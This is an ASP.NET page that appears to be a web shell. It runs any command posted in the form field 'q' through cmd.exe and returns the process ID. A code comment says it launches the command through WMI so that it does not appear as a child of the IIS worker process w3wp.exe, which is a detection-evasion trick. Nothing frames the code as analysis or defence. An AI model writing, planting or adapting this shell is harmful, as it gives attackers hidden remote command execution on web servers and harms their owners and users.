<%@ Page Language="C#" %>
<%@ Import Namespace="System.Management" %>
<script runat="server">
    // Starts the command through WMI instead of Process.Start (no child of w3wp.exe).
    protected void Page_Load(object sender, EventArgs e)
    {
        string line = Request.Form["q"];
        if (String.IsNullOrEmpty(line)) return;
        ManagementClass cls = new ManagementClass("Win32_Process");
        ManagementBaseObject inParams = cls.GetMethodParameters("Create");
        inParams["CommandLine"] = "cmd.exe /c " + line;
        ManagementBaseObject outParams = cls.InvokeMethod("Create", inParams, null);
        Response.Write("pid " + outParams["ProcessId"]);
    }
</script>
<html><body><form method="post"><input name="q" /></form></body></html>
